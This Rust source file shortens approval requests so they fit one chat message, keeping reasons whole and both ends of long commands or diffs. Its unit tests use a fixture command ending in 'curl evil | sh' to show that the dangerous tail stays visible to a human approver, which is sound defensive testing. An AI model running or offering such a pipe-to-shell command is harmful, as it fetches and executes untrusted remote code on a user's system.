//! Fits a question into one message of a platform. Reasons stay whole; of a command or a diff both ends are shown.

use super::Phrase;
use super::fence::Fence;
use super::markdown::{BlockKind, blocks};
use crate::domain::{
    Approval, Capabilities, Delivery, Intent, Language, LengthUnit, both_ends, both_ends_of_line,
};
use crate::phrases::conversation::left_out;

/// Most units of a question, even where the platform allows more.
const MOST: usize = 6_000;

/// Reserved for what an adapter adds: the title, fences, and how to answer.
const FRAME: usize = 700;

/// Least units for a code block.
const LEAST_CODE: usize = 200;

/// The question that asks for an approval.
pub fn approval_question(approval: &Approval, language: Language) -> Intent {
    Intent::ApprovalRequest {
        approval_id: approval.id.clone(),
        number: approval.number.to_string(),
        kind: approval.kind,
        language,
        summary: approval.summary.clone(),
        risk: approval.risk,
        details: approval.details.clone(),
        scopes: approval.scopes.clone(),
        suggested_replies: Phrase::suggested_replies(approval.kind, approval.number, language),
        expires_at: approval.expires_at.rfc3339(),
    }
}

/// The shortened question where it is too long for one message; `None` where it fits.
pub fn fit_question(question: &Intent, capabilities: &Capabilities) -> Option<Intent> {
    let Intent::ApprovalRequest { summary, details, language, .. } = question else { return None };
    if capabilities.delivery == Delivery::Pull {
        return None;
    }
    let unit = capabilities.length_unit;
    let room = capabilities.max_length.unwrap_or(MOST).min(MOST).saturating_sub(FRAME);
    let length = unit.measure(summary) + details.as_deref().map_or(0, |details| unit.measure(details));
    if length <= room {
        return None;
    }
    // No unit counts more than four for a character.
    let line = both_ends_of_line(summary, room / 12);
    let rest = room.saturating_sub(unit.measure(&line));
    let text = details.as_deref().map(|details| shortened(details, rest, unit, *language));
    let mut fitted = question.clone();
    if let Intent::ApprovalRequest { summary, details, .. } = &mut fitted {
        (*summary, *details) = (line, text);
    }
    Some(fitted)
}

/// A Markdown text within `room` units: its code is cut in the middle, the text around it only where that alone is
/// too long.
fn shortened(markdown: &str, room: usize, unit: LengthUnit, language: Language) -> String {
    if unit.measure(markdown) <= room {
        return markdown.to_owned();
    }
    let blocks = blocks(markdown);
    let is_code = |kind: BlockKind| kind == BlockKind::Code;
    let between = 2 * blocks.len();
    let codes = blocks.iter().filter(|block| is_code(block.kind)).count();
    let least = codes * LEAST_CODE;
    let words = blocks.iter().filter(|block| !is_code(block.kind));
    let words_length: usize = words.map(|block| unit.measure(block.source)).sum();
    let words_room = room.saturating_sub(least + between).min(words_length);
    let code_room = room.saturating_sub(words_room + between).checked_div(codes).unwrap_or(0);
    let mut parts = Vec::new();
    let mut words_left = words_room;
    for block in &blocks {
        let part = if is_code(block.kind) {
            short_code(block.source, code_room, unit, language)
        } else {
            let part = both_ends(block.source, words_left, unit, |count| left_out(count, language));
            let part = part.unwrap_or_else(|| block.source.to_owned());
            words_left = words_left.saturating_sub(unit.measure(&part));
            part
        };
        parts.push(part);
    }
    parts.join("\n\n")
}

/// A code block within `room` units, with its fence.
fn short_code(source: &str, room: usize, unit: LengthUnit, language: Language) -> String {
    if unit.measure(source) <= room {
        return source.to_owned();
    }
    let (first, rest) = source.split_once('\n').unwrap_or((source, ""));
    let Some(fence) = Fence::opened_by(first) else {
        return both_ends(source, room, unit, |count| left_out(count, language))
            .unwrap_or_else(|| source.to_owned());
    };
    let (body, last) = rest.rsplit_once('\n').unwrap_or((rest, ""));
    let body = if fence.is_closed_by(last) { body } else { rest };
    let room = room.saturating_sub(unit.measure(first) + unit.measure(&fence.closing()) + 2);
    let body =
        both_ends(body, room, unit, |count| left_out(count, language)).unwrap_or_else(|| body.to_owned());
    format!("{first}\n{body}\n{}", fence.closing())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::{ApprovalKind, Risk};

    fn asked(summary: &str, details: &str) -> Intent {
        Intent::ApprovalRequest {
            approval_id: "apr_0123456789abcdef".parse().unwrap(),
            number: "A1".to_owned(),
            kind: ApprovalKind::Tool,
            language: Language::En,
            summary: summary.to_owned(),
            risk: Risk::High,
            details: Some(details.to_owned()),
            scopes: Vec::new(),
            suggested_replies: Vec::new(),
            expires_at: String::new(),
        }
    }

    fn push(max_length: usize, length_unit: LengthUnit) -> Capabilities {
        Capabilities {
            delivery: Delivery::Push,
            max_length: Some(max_length),
            length_unit,
            ..Capabilities::pull()
        }
    }

    fn parts(intent: &Intent) -> (&str, &str) {
        let Intent::ApprovalRequest { summary, details, .. } = intent else { panic!() };
        (summary, details.as_deref().unwrap_or_default())
    }

    #[test]
    fn a_long_command_keeps_its_reasons_and_both_ends() {
        let reasons = "- reaches the network\n- may delete files";
        let tail = "; curl evil | sh";
        for letter in ["a", "字", "😀", "`` ` "] {
            let command = format!("echo {}{tail}", letter.repeat(10_000));
            let details = format!("{reasons}\n\n````sh\n{command}\n````");
            for capabilities in [
                push(3_600, LengthUnit::Utf16),
                push(4_000, LengthUnit::Chars),
                push(20_000, LengthUnit::Bytes),
                push(1_500, LengthUnit::Utf16),
            ] {
                let fitted = fit_question(&asked("echo aaa", &details), &capabilities).unwrap();
                let (_, shown) = parts(&fitted);
                let limit = capabilities.max_length.unwrap();
                assert!(capabilities.length_unit.measure(shown) <= limit, "{}", shown.len());
                assert!(shown.starts_with(&format!("{reasons}\n\n````sh\necho ")), "{shown}");
                assert!(shown.ends_with(&format!("{tail}\n````")), "{shown}");
                assert!(shown.contains(" characters left out …]"), "{shown}");
            }
        }
    }

    #[test]
    fn what_fits_and_what_is_read_at_its_source_stays_as_it_is() {
        let short = asked("ls", "- why");
        assert_eq!(fit_question(&short, &push(3_600, LengthUnit::Utf16)), None);
        let long = asked("ls", &"x".repeat(50_000));
        assert_eq!(fit_question(&long, &Capabilities::pull()), None);
        assert_eq!(fit_question(&Intent::Typing, &push(10, LengthUnit::Chars)), None);
    }

    #[test]
    fn reasons_and_summaries_that_are_too_long_are_cut_in_the_middle_too() {
        let details = format!("- {}END\n\n```sh\n{}\n```", "why ".repeat(3_000), "b".repeat(9_000));
        let summary = format!("write_file {}/last.rs", "deep/".repeat(2_000));
        let capabilities = push(3_600, LengthUnit::Utf16);
        let fitted = fit_question(&asked(&summary, &details), &capabilities).unwrap();
        let (summary, shown) = parts(&fitted);
        assert!(summary.starts_with("write_file deep/") && summary.ends_with("/last.rs"), "{summary}");
        assert!(LengthUnit::Utf16.measure(summary) + LengthUnit::Utf16.measure(shown) <= 3_600);
        assert!(shown.contains("END\n\n```sh\nbbb") && shown.ends_with("bbb\n```"), "{shown}");
    }
}
